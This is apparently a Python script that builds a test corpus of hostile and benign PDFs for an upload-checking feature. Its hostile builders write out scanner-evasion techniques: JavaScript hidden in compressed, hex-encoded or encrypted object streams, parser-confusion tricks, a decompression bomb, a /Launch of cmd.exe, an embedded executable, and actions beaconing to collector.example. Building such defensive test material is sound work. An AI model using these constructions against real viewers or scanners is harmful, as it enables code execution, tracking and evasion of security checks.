"""Writes the PDFs next to this script: hostile ones the upload check must refuse and benign
ones it must accept unchanged (tests/files/test_pdf_uploads.py says which is which).

    .venv/bin/python tests/files/hostile_pdfs/make_corpus.py

Hostile files are written byte by byte, compressed with zlib and encrypted with the RC4 code
below, so that each construction is exactly the one its name describes: a PDF library would
normalise it (re-escape names, drop comments, rebuild the cross-reference table) and the file
would no longer test what it claims to. Benign files come from the tools that make real
uploads (WeasyPrint, as the portal renders labels, and Pillow, as a scanner app would) or are
written by hand where the point is a precise structure. Running the script again rewrites every
file; the WeasyPrint and Pillow ones may then differ in their metadata only.
"""

from __future__ import annotations

import hashlib
import io
import re
import sys
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

HERE = Path(__file__).resolve().parent

JS = b"app.alert('hostile')"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
FILE_ID = bytes.fromhex("5e1f3c0a9d2b4c6e8f7a1b2c3d4e5f60")
# A document that runs a script when opened, as objects 1 to 4.
OPENS_WITH_SCRIPT = [
    (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"),
    (2, PAGES),
    (3, PAGE),
    (4, b"<< /S /JavaScript /JS (%s) >>" % JS),
]

Body = bytes | Callable[[int], bytes]  # a callable gets the object number (for encryption)


# --- building blocks ----------------------------------------------------------------------


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def hex_string(data: bytes) -> bytes:
    return b"<" + data.hex().encode() + b">"


def obj_header(number: int) -> bytes:
    return b"%d 0 obj\n" % number


def classic(
    objects: list[tuple[int, Body]],
    *,
    trailer: bytes = b"/Root 1 0 R",
    headers: dict[int, bytes] | None = None,
) -> bytes:
    """A PDF with a cross-reference table; `headers` replaces an object's `n 0 obj` line."""
    headers = headers or {}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects:
        offsets[number] = len(out)
        text = body(number) if callable(body) else body
        out += headers.get(number, obj_header(number)) + text + b"\nendobj\n"
    out += xref_table(offsets, size=max(offsets) + 1, start=len(out), trailer=trailer)
    return bytes(out)


def xref_table(offsets: dict[int, int], *, size: int, start: int, trailer: bytes) -> bytes:
    """A cross-reference section listing `offsets` (object 0 too when it is listed from 0)."""
    out = bytearray(b"xref\n")
    numbers = sorted(offsets)
    runs: list[list[int]] = []
    for number in numbers:
        if runs and runs[-1][-1] == number - 1:
            runs[-1].append(number)
        else:
            runs.append([number])
    if runs[0][0] == 1:
        runs[0].insert(0, 0)
    for run in runs:
        out += b"%d %d\n" % (run[0], len(run))
        for number in run:
            if number == 0:
                out += b"0000000000 65535 f \n"
            else:
                out += b"%010d 00000 n \n" % offsets[number]
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def startxref(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def incremental(base: bytes, objects: list[tuple[int, bytes]], *, trailer: bytes) -> bytes:
    """`base` with an incremental update that (re)defines `objects`."""
    out = bytearray(base)
    offsets = {}
    for number, body in objects:
        offsets[number] = len(out)
        out += obj_header(number) + body + b"\nendobj\n"
    size = max(int(re.findall(rb"/Size (\d+)", base)[-1]), max(offsets) + 1)
    prev = b"/Prev %d %s" % (startxref(base), trailer)
    out += xref_table(offsets, size=size, start=len(out), trailer=prev)
    return bytes(out)


def object_stream(members: list[tuple[int, bytes]], *, comment: bytes = b"") -> tuple[bytes, int]:
    """The content of an object stream holding `members`, and its /First; `comment` ends the
    header, as qpdf's QDF output does."""
    header, body = [], bytearray()
    for number, text in members:
        header.append(b"%d %d" % (number, len(body)))
        body += text + b"\n"
    prefix = b" ".join(header) + b"\n" + (b"%% " + comment + b"\n" if comment else b"")
    return prefix + bytes(body), len(prefix)


def with_xref_stream(
    plain: list[tuple[int, Body]],
    streams: list[tuple[int, list[tuple[int, bytes]], Callable[[int, bytes, int, int], bytes]]],
    *,
    trailer: bytes = b"/Root 1 0 R",
    headers: dict[int, bytes] | None = None,
    prev: tuple[bytes, int] | None = None,
    replace_rows: dict[int, bytes] | None = None,
    lists_itself: bool = True,
) -> bytes:
    """A PDF 1.5 whose objects are `plain` ones and `streams` (object streams: number, members
    and a function writing the stream object from number, content, /N and /First), found
    through a cross-reference stream. `prev` = (earlier file, its startxref) makes this an
    incremental update of that file; `replace_rows` replaces some objects' rows of the table;
    the cross-reference stream lists itself unless `lists_itself` is false."""
    headers = headers or {}
    out = bytearray(prev[0] if prev else b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    entries: dict[int, bytes] = {}
    for number, body in plain:
        entries[number] = b"\x01" + len(out).to_bytes(4, "big") + b"\x00\x00"
        text = body(number) if callable(body) else body
        out += headers.get(number, obj_header(number)) + text + b"\nendobj\n"
    for number, members, write in streams:
        content, first = object_stream(members)
        entries[number] = b"\x01" + len(out).to_bytes(4, "big") + b"\x00\x00"
        text = write(number, content, len(members), first)
        out += headers.get(number, obj_header(number)) + text + b"\nendobj\n"
        for index, (member, _text) in enumerate(members):
            entries[member] = b"\x02" + number.to_bytes(4, "big") + index.to_bytes(2, "big")
    entries.update(replace_rows or {})
    xref_number = max(entries) + 1
    if prev:  # a number the earlier file did not use
        xref_number = max(xref_number, int(re.findall(rb"/Size (\d+)", prev[0])[-1]))
    if lists_itself:
        entries[xref_number] = b"\x01" + len(out).to_bytes(4, "big") + b"\x00\x00"
    numbers = sorted(entries)
    index = b" ".join(b"%d 1" % number for number in numbers)
    rows = b"".join(entries[number] for number in numbers)
    if not prev:
        index, rows = b"0 1 " + index, b"\x00\x00\x00\x00\x00\xff\xff" + rows
    earlier = b" /Prev %d" % prev[1] if prev else b""
    dictionary = b"/Type /XRef /Size %d /W [1 4 2] /Index [%s] %s%s" % (
        xref_number + 1,
        index,
        trailer,
        earlier,
    )
    start = len(out)
    out += obj_header(xref_number) + stream(dictionary, rows) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def flate_object_stream(extra: bytes = b"") -> Callable[[int, bytes, int, int], bytes]:
    def write(_number: int, content: bytes, count: int, first: int) -> bytes:
        dictionary = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode%s" % (count, first, extra)
        return stream(dictionary, zlib.compress(content))

    return write


# --- RC4 encryption (PDF 32000-1, 7.6.3: standard security handler, revision 3) -----------

PASSWORD_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")
PERMISSIONS = -4  # everything allowed


def rc4(key: bytes, data: bytes) -> bytes:
    box = list(range(256))
    j = 0
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    out = bytearray()
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out)


def _md5(data: bytes) -> bytes:
    return hashlib.md5(data, usedforsecurity=False).digest()


def _rc4_rounds(key: bytes, data: bytes) -> bytes:
    for round_ in range(20):
        data = rc4(bytes(byte ^ round_ for byte in key), data)
    return data


class Rc4Security:
    """The /Encrypt dictionary and per-object keys of a 128-bit RC4 encryption."""

    def __init__(self, *, user: bytes, owner: bytes):
        padded_user = (user + PASSWORD_PAD)[:32]
        owner_key = _md5((owner + PASSWORD_PAD)[:32])
        for _ in range(50):
            owner_key = _md5(owner_key)
        self.owner_entry = _rc4_rounds(owner_key, padded_user)
        key = _md5(
            padded_user
            + self.owner_entry
            + PERMISSIONS.to_bytes(4, "little", signed=True)
            + FILE_ID
        )
        for _ in range(50):
            key = _md5(key)
        self.key = key
        self.user_entry = _rc4_rounds(key, _md5(PASSWORD_PAD + FILE_ID)) + bytes(16)

    def dictionary(self) -> bytes:
        return b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P %d /O %s /U %s >>" % (
            PERMISSIONS,
            hex_string(self.owner_entry),
            hex_string(self.user_entry),
        )

    def encrypt(self, number: int, data: bytes) -> bytes:
        object_key = _md5(self.key + number.to_bytes(3, "little") + b"\x00\x00")
        return rc4(object_key, data)


TRAILER_ID = b"/ID [%s %s]" % (hex_string(FILE_ID), hex_string(FILE_ID))


# --- hostile files ------------------------------------------------------------------------


def js_in_object_stream(*, padding: int = 0, comment: bool = False) -> bytes:
    """Catalog and its /OpenAction script compressed in an object stream (object 5); the
    stream's dictionary padded with a long string, or `5 0 obj` followed by a comment."""
    extra = b" /Padding (%s)" % (b"x" * padding) if padding else b""
    headers = {5: b"5 0 obj % the object stream\n"} if comment else None
    return with_xref_stream(
        [],
        [(5, OPENS_WITH_SCRIPT, flate_object_stream(extra))],
        headers=headers,
    )


def js_in_encrypted_object_stream() -> bytes:
    """Opens without a password (empty user password): the script is seen only once the
    object stream is decrypted and inflated."""
    security = Rc4Security(user=b"", owner=b"owner secret")

    def write(number: int, content: bytes, count: int, first: int) -> bytes:
        data = security.encrypt(number, zlib.compress(content))
        return stream(b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (count, first), data)

    return with_xref_stream(
        [(6, security.dictionary())],
        [(5, OPENS_WITH_SCRIPT, write)],
        trailer=b"/Root 1 0 R /Encrypt 6 0 R " + TRAILER_ID,
    )


def js_in_hex_encoded_object_stream() -> bytes:
    def write(_number: int, content: bytes, count: int, first: int) -> bytes:
        dictionary = b"/Type /ObjStm /N %d /First %d /Filter /ASCIIHexDecode" % (count, first)
        return stream(dictionary, content.hex().encode() + b">")

    return with_xref_stream(
        [],
        [(5, OPENS_WITH_SCRIPT, write)],
    )


def object_stream_bomb() -> bytes:
    """An object stream of under 100 KB that inflates to 96 MiB of blanks."""
    content, first = object_stream([(3, PAGE)])
    inflater = zlib.compressobj(9)
    data = inflater.compress(content)
    for _ in range(96):
        data += inflater.compress(b" " * (1 << 20))
    data += inflater.flush()

    def write(_number: int, _content: bytes, count: int, _first: int) -> bytes:
        dictionary = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (count, first)
        return stream(dictionary, data)

    return with_xref_stream([(1, CATALOG), (2, PAGES)], [(4, [(3, PAGE)], write)])


def single_page(catalog: bytes = CATALOG, page: bytes = PAGE, *more: bytes) -> bytes:
    objects = [(1, catalog), (2, PAGES), (3, page)]
    objects += [(number, body) for number, body in enumerate(more, start=4)]
    return classic(objects)


def page_with_annotation(annotation: bytes, *more: bytes) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"
    return single_page(CATALOG, page, annotation, *more)


def needs_password() -> bytes:
    security = Rc4Security(user=b"user secret", owner=b"owner secret")

    def action(number: int) -> bytes:
        return b"<< /S /JavaScript /JS %s >>" % hex_string(security.encrypt(number, JS))

    return classic(
        [
            (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"),
            (2, PAGES),
            (3, PAGE),
            (4, action),
            (5, security.dictionary()),
        ],
        trailer=b"/Root 1 0 R /Encrypt 5 0 R " + TRAILER_ID,
    )


def wrong_offsets() -> bytes:
    """A cross-reference table whose offsets are all 7 bytes off: readers (and qpdf) rebuild
    it by scanning the file."""
    data = single_page()
    return re.sub(
        rb"(\d{10}) 00000 n",
        lambda match: b"%010d 00000 n" % (int(match[1]) + 7),
        data,
    )


def superseded_member_with_script() -> bytes:
    """Object 4 was a script in the first object stream; an update replaced it with a
    harmless dictionary. Readers that rebuild the file from its bytes may still find it."""
    first = with_xref_stream(
        [],
        [
            (
                5,
                [
                    (1, CATALOG),
                    (2, PAGES),
                    (3, PAGE),
                    (4, b"<< /S /JavaScript /JS (%s) >>" % JS),
                ],
                flate_object_stream(),
            )
        ],
    )
    return with_xref_stream(
        [(4, b"<< /Title (Delivery note) >>")],
        [],
        prev=(first, startxref(first)),
    )


LINK_SCRIPT = (
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /JavaScript /JS (%s) >> >>" % JS
)
LINK_WEB = (
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
    b" /A << /S /URI /URI (https://portal.example/) >> >>"
)
ANNOTATED_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"


def compressed_row(stream_number: int, index: int) -> bytes:
    return b"\x02" + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big")


def number_twice() -> bytes:
    """Two objects 4 in one stream, the table pointing at the first (the script): qpdf finds
    an object by its number and takes the last (the web link), pdf.js takes the one at the
    table's index."""
    members = [(1, CATALOG), (2, PAGES), (3, ANNOTATED_PAGE), (4, LINK_SCRIPT), (4, LINK_WEB)]
    return with_xref_stream(
        [], [(5, members, flate_object_stream())], replace_rows={4: compressed_row(5, 3)}
    )


def index_disagrees_with_number() -> bytes:
    """The table says object 4 is the stream's 5th object, whose header number is 6: qpdf
    looks object 4 up by number (the web link), pdf.js by index (the script)."""
    members = [(1, CATALOG), (2, PAGES), (3, ANNOTATED_PAGE), (4, LINK_WEB), (6, LINK_SCRIPT)]
    return with_xref_stream(
        [],
        [(5, members, flate_object_stream())],
        replace_rows={4: compressed_row(5, 4), 6: b"\x00" + bytes(6)},
    )


def hostile() -> dict[str, bytes]:
    return {
        "objstm_js_padded_dictionary.pdf": js_in_object_stream(padding=5000),
        "objstm_js_comment_after_obj.pdf": js_in_object_stream(comment=True),
        "objstm_js_encrypted_no_password.pdf": js_in_encrypted_object_stream(),
        "xfa_form.pdf": single_page(
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
            PAGE,
            stream(b"", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'),
        ),
        "page_additional_actions.pdf": single_page(
            CATALOG,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
            b" /AA << /O << /S /JavaScript /JS (%s) >> >> >>" % JS,
        ),
        "launch_action.pdf": page_with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
            b" /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>"
        ),
        "embedded_files.pdf": single_page(
            b"<< /Type /Catalog /Pages 2 0 R"
            b" /Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >> >>",
            PAGE,
            b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
            stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 payload"),
        ),
        "rich_media.pdf": page_with_annotation(
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100]"
            b" /RichMediaContent << /Assets << /Names [] >> >> >>"
        ),
        "escaped_javascript_name.pdf": single_page(
            b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61v#61Script 4 0 R >> >>",
            PAGE,
            b"<< /Names [(init) << /S /#4A#61vaScript /J#53 (%s) >>] >>" % JS,
        ),
        "incremental_update_adds_javascript.pdf": incremental(
            single_page(),
            [
                (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"),
                (4, b"<< /S /JavaScript /JS (%s) >>" % JS),
            ],
            trailer=b"/Root 1 0 R",
        ),
        "annotation_javascript.pdf": page_with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
            b" /A << /S /JavaScript /JS (%s) >> >>" % JS
        ),
        "submit_form.pdf": page_with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
            b" /A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> >> >>"
        ),
        "remote_goto_unc_path.pdf": page_with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
            b" /A << /S /GoToR /F (\\\\\\\\collector.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"
        ),
        # A web address opened with the document: it tells a server who opened it and when.
        "open_action_uri.pdf": single_page(
            b"<< /Type /Catalog /Pages 2 0 R"
            b" /OpenAction << /S /URI /URI (https://collector.example/opened) >> >>"
        ),
        "uri_file_scheme.pdf": page_with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
            b" /A << /S /URI /URI (file://collector.example/share/x.pdf) >> >>"
        ),
        "unreferenced_javascript_object.pdf": unreferenced_script(),
        "superseded_objstm_member_javascript.pdf": superseded_member_with_script(),
        "objstm_hex_encoded.pdf": js_in_hex_encoded_object_stream(),
        "objstm_number_twice.pdf": number_twice(),
        "objstm_index_disagrees.pdf": index_disagrees_with_number(),
        # qpdf keeps the last /S (a web link), a viewer that keeps the first launches cmd.exe.
        "duplicate_key.pdf": page_with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
            b" /A << /S /Launch /F (cmd.exe) /S /URI /URI (https://portal.example/) >> >>"
        ),
        "objstm_bomb.pdf": object_stream_bomb(),
        "truncated.pdf": single_page()[:-60],
        "garbage_after_header.pdf": b"%PDF-1.7\n" + bytes(range(256)) * 16,
        "needs_password.pdf": needs_password(),
        "wrong_xref_offsets.pdf": wrong_offsets(),
    }


def unreferenced_script() -> bytes:
    """A script object that no cross-reference section lists: invisible to a reader that
    trusts the table, found by one that rebuilds the table from the file's bytes."""
    data = single_page()
    at = data.index(b"xref\n")
    orphan = b"9 0 obj\n<< /S /JavaScript /JS (%s) >>\nendobj\n" % JS
    fixed = data[:at] + orphan + data[at:]
    return fixed.replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(orphan)))


# --- benign files -------------------------------------------------------------------------


def weasyprint_document() -> bytes:
    from weasyprint import HTML

    html = """<!doctype html><html lang="pl"><head><meta charset="utf-8"><style>
      @page { size: A6; margin: 8mm } body { font-family: sans-serif; font-size: 10pt }
    </style></head><body>
      <h1>RMA-2026-00042</h1>
      <p>Etykieta zwrotna · Return label · Zażółć gęślą jaźń</p>
      <p><a href="https://portal.example/returns/42/">portal.example/returns/42</a></p>
      <svg width="120" height="40"><rect x="0" y="0" width="4" height="40"/>
        <rect x="8" y="0" width="2" height="40"/></svg>
    </body></html>"""
    return HTML(string=html).write_pdf()


def scanned_page() -> bytes:
    from PIL import Image, ImageDraw

    image = Image.new("L", (850, 1100), 245)
    draw = ImageDraw.Draw(image)
    for row in range(120, 1000, 40):
        draw.line((80, row, 770, row), fill=40, width=3)
    out = io.BytesIO()
    image.save(out, "PDF", resolution=100.0)
    return out.getvalue()


def uri_link() -> bytes:
    return page_with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [50 700 300 720] /Border [0 0 0]"
        b" /A << /S /URI /URI (https://portal.example/invoices/2026-117) >> >>"
    )


def clean_object_streams() -> bytes:
    return with_xref_stream(
        [],
        [
            (
                5,
                [
                    (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"),
                    (2, PAGES),
                    (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"),
                    (
                        4,
                        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10]"
                        b" /A << /S /URI /URI (https://portal.example/) >> >>",
                    ),
                ],
                flate_object_stream(),
            )
        ],
    )


def commented_object_stream_header() -> bytes:
    content, first = object_stream(
        [(1, CATALOG), (2, PAGES), (3, PAGE)], comment=b"Object stream: object 1, index 0"
    )

    def write(_number: int, _content: bytes, count: int, _first: int) -> bytes:
        dictionary = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (count, first)
        return stream(dictionary, zlib.compress(content))

    return with_xref_stream([], [(5, [(1, CATALOG), (2, PAGES), (3, PAGE)], write)])


def update_not_listing_its_table() -> bytes:
    """An update whose cross-reference stream does not list itself, as pypdf writes them."""
    first = clean_object_streams()
    return with_xref_stream(
        [(6, b"<< /Title (Delivery note 117) >>")],
        [],
        trailer=b"/Root 1 0 R /Info 6 0 R",
        prev=(first, startxref(first)),
        lists_itself=False,
    )


def superseded_clean_member() -> bytes:
    first = clean_object_streams()
    return with_xref_stream(
        [(4, b"<< /Type /Annot /Subtype /Link /Rect [0 0 20 20] /Dest [3 0 R /Fit] >>")],
        [],
        prev=(first, startxref(first)),
    )


def text_mentioning_objects() -> bytes:
    """An uncompressed page whose text reads like object headers: `1 0 obj`, `5 0 obj`."""
    content = b"BT /F1 12 Tf 72 720 Td (See 1 0 obj and 5 0 obj <</JS>> in the manual) Tj ET"
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return single_page(
        CATALOG,
        page,
        stream(b"", content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def owner_password_only() -> bytes:
    """Encrypted with an owner password only: it opens without asking for one."""
    security = Rc4Security(user=b"", owner=b"owner secret")

    def info(number: int) -> bytes:
        return b"<< /Title %s >>" % hex_string(security.encrypt(number, b"Delivery note 117"))

    return classic(
        [(1, CATALOG), (2, PAGES), (3, PAGE), (4, info), (5, security.dictionary())],
        trailer=b"/Root 1 0 R /Info 4 0 R /Encrypt 5 0 R " + TRAILER_ID,
    )


def made_by_tools() -> dict[str, bytes]:
    return {
        "weasyprint_label.pdf": weasyprint_document(),
        "scanned_page.pdf": scanned_page(),
    }


def handwritten() -> dict[str, bytes]:
    return {
        "uri_link.pdf": uri_link(),
        "objstm_clean.pdf": clean_object_streams(),
        "objstm_superseded_clean.pdf": superseded_clean_member(),
        "open_action_destination.pdf": single_page(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /FitH 842] >>"
        ),
        "objstm_header_comment.pdf": commented_object_stream_header(),
        "update_table_not_listing_itself.pdf": update_not_listing_its_table(),
        "open_action_goto.pdf": single_page(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>"
        ),
        "incremental_update_clean.pdf": incremental(
            single_page(),
            [(1, b"<< /Type /Catalog /Pages 2 0 R /PageMode /UseOutlines >>")],
            trailer=b"/Root 1 0 R",
        ),
        "text_mentioning_objects.pdf": text_mentioning_objects(),
        "owner_password_only.pdf": owner_password_only(),
    }


def write(files: Iterable[tuple[str, bytes]], folder: Path) -> None:
    for name, data in files:
        (folder / name).write_bytes(data)
        print(f"{name}: {len(data)} bytes", file=sys.stderr)


if __name__ == "__main__":
    write(hostile().items(), HERE / "hostile")
    write({**made_by_tools(), **handwritten()}.items(), HERE / "benign")
